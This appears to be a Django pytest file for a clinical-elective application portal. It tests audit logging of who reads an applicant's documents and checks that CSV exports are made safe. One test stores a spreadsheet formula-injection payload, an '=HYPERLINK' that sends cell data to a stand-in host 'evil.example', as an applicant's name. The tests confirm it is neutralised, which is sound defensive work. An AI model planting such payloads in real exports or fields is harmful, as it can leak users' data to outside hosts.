"""Every read of an applicant's data by someone else is audited, and the applicant sees it at once."""

import csv
import io
import json
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse

from audit.models import AuditEvent
from audit.services import audit_record
from tests.api.conftest import token_client
from tests.applicants.factories import add_document
from tests.applications.factories import ApplicationFactory
from tests.letters.factories import LetterRequestFactory
from tests.letters.test_applicant_pages import with_letter
from tests.letters.test_coordinator_reads import assign
from tests.placements.factories import ListingFactory, SessionFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&B2,"Open CV")'


@pytest.fixture
def application(applicant, institution, settings, tmp_path):
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": str(tmp_path)}},
    }
    session = SessionFactory(listing=ListingFactory(institution=institution, title="Cardiology Elective"))
    application = ApplicationFactory(applicant=applicant, session=session)
    passport = add_document(applicant, "passport")
    passport.file.save("passport.pdf", ContentFile(b"%PDF-1.4 passport"), save=True)
    application.documents.add(passport.document)
    application.passport = passport.document
    return application


def _reads_on_my_data_page(client, applicant) -> list[list[str]]:
    client.force_login(applicant)
    response = client.get(reverse("applicants:my_data"))
    assert response.status_code == 200
    return [[r["institution"], r["role"], r["what"]] for r in response.context["reads"]]


def test_a_coordinators_download_shows_on_the_applicants_page_at_once(client, application, applicant, coordinator):
    client.force_login(coordinator)
    url = reverse("applications:coordinator_document", args=[application.pk, application.passport.pk])
    assert client.get(url).status_code == 200

    assert _reads_on_my_data_page(client, applicant) == [
        ["Lakeshore University Medical Center", "coordinator", "Passport"]
    ]
    page = client.get(reverse("applicants:my_data")).content.decode()
    assert "Who has seen my documents" in page and "Lakeshore University Medical Center" in page
    event = AuditEvent.objects.get(action="document.downloaded")
    assert (event.actor, event.subject_id, event.extra["application_id"]) == (coordinator, applicant.pk, application.pk)


def test_the_packet_html_and_api_reads_are_listed(client, application, applicant, coordinator):
    client.force_login(coordinator)
    assert client.get(reverse("applications:packet", args=[application.pk])).status_code == 200
    assert token_client(coordinator).get(f"/api/v1/queue/{application.pk}/").status_code == 200

    reads = _reads_on_my_data_page(client, applicant)
    assert reads == [["Lakeshore University Medical Center", "coordinator", "Application to Cardiology Elective"]] * 2
    assert [e.extra["via"] for e in AuditEvent.objects.filter(action="application.viewed")] == ["api", "page"]


def test_a_refused_read_records_nothing(client, application, applicant, other_coordinator):
    client.force_login(other_coordinator)
    url = reverse("applications:coordinator_document", args=[application.pk, application.passport.pk])
    assert client.get(url).status_code == 404
    assert client.get(reverse("applications:packet", args=[application.pk])).status_code == 404
    assert not AuditEvent.objects.filter(subject=applicant).exists()


def test_own_reads_are_not_listed_and_each_sees_only_their_own(client, application, applicant, coordinator):
    client.force_login(applicant)
    assert client.get(reverse("applicants:document_download", args=[application.passport.current_version_id]))
    audit_record(actor=applicant, action="document.downloaded", subject=applicant, what="Passport")
    bob = ApplicationFactory(session=application.session).applicant
    audit_record(actor=coordinator, action="document.downloaded", subject=bob, what="CV", actor_role="coordinator")

    assert _reads_on_my_data_page(client, applicant) == []
    assert _reads_on_my_data_page(client, bob) == [["", "coordinator", "CV"]]


def test_the_data_export_holds_the_reads_as_json_and_neutralised_csv(client, application, applicant, coordinator):
    client.force_login(coordinator)
    client.get(reverse("applications:packet", args=[application.pk]))
    audit_record(actor=coordinator, action="document.downloaded", subject=applicant, what="-2+3", actor_role="x")

    client.force_login(applicant)
    archive = zipfile.ZipFile(io.BytesIO(client.get(reverse("applicants:my_data_export")).content))

    reads = json.loads(archive.read("who_has_seen_my_documents.json"))
    assert [(r["institution"], r["what"]) for r in reads] == [
        ("", "-2+3"),
        ("Lakeshore University Medical Center", "Application to Cardiology Elective"),
    ]
    rows = list(csv.reader(io.StringIO(archive.read("who_has_seen_my_documents.csv").decode())))
    assert rows[0] == ["when", "institution", "role", "what"]
    assert rows[1][3] == "'-2+3" and rows[2][1] == "Lakeshore University Medical Center"


def test_the_queue_export_is_audited_with_its_row_count_and_neutralised(client, application, applicant, coordinator):
    applicant.full_name = HYPERLINK
    applicant.save()
    client.force_login(coordinator)

    response = client.get(reverse("applications:queue_csv"), {"status": "submitted"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))

    assert rows[0]["applicant"] == "'" + HYPERLINK
    event = AuditEvent.objects.get(action="applications.exported")
    assert (event.actor, event.extra["rows"], event.extra["filters"]) == (coordinator, 1, "status=submitted")


def test_a_page_of_the_api_queue_is_audited_with_its_row_count(application, coordinator):
    ApplicationFactory(session=application.session)

    assert token_client(coordinator).get("/api/v1/queue/").json()["count"] == 2

    event = AuditEvent.objects.get(action="applications.listed")
    assert (event.actor, event.extra["rows"]) == (coordinator, 2)


def test_a_letter_read_names_the_institution_and_the_writer(client, application, applicant, coordinator):
    letter_request = with_letter(LetterRequestFactory(applicant=applicant, writer_name="Dr Okafor"))
    assign(letter_request, application)
    client.force_login(coordinator)
    url = reverse("letters:packet_read", args=[application.pk, letter_request.pk])
    assert client.get(url).status_code == 200

    assert _reads_on_my_data_page(client, applicant) == [
        ["Lakeshore University Medical Center", "coordinator", "Letter from Dr Okafor"]
    ]


def test_an_admin_opening_the_applicants_records_is_listed_too(client, application, applicant, admin_user):
    client.force_login(admin_user)
    assert client.get(reverse("admin:applicants_document_change", args=[application.passport.pk])).status_code == 200
    assert client.get(reverse("admin:applications_application_change", args=[application.pk])).status_code == 200

    assert _reads_on_my_data_page(client, applicant) == [
        ["USCE Portal", "admin", "Application (administrator's page)"],
        ["USCE Portal", "admin", "Document (administrator's page)"],
    ]


@pytest.mark.parametrize("reads", [2, 40])
def test_the_my_data_page_takes_a_constant_number_of_queries(
    client, applicant, coordinator, reads, django_assert_max_num_queries
):
    for _ in range(reads):
        audit_record(
            actor=coordinator, action="document.downloaded", subject=applicant, what="CV", actor_role="coordinator"
        )
    client.force_login(applicant)
    with django_assert_max_num_queries(6):  # session, user, usersessions, the reads, and the page's own
        response = client.get(reverse("applicants:my_data"))
    assert len(response.context["reads"]) == reads
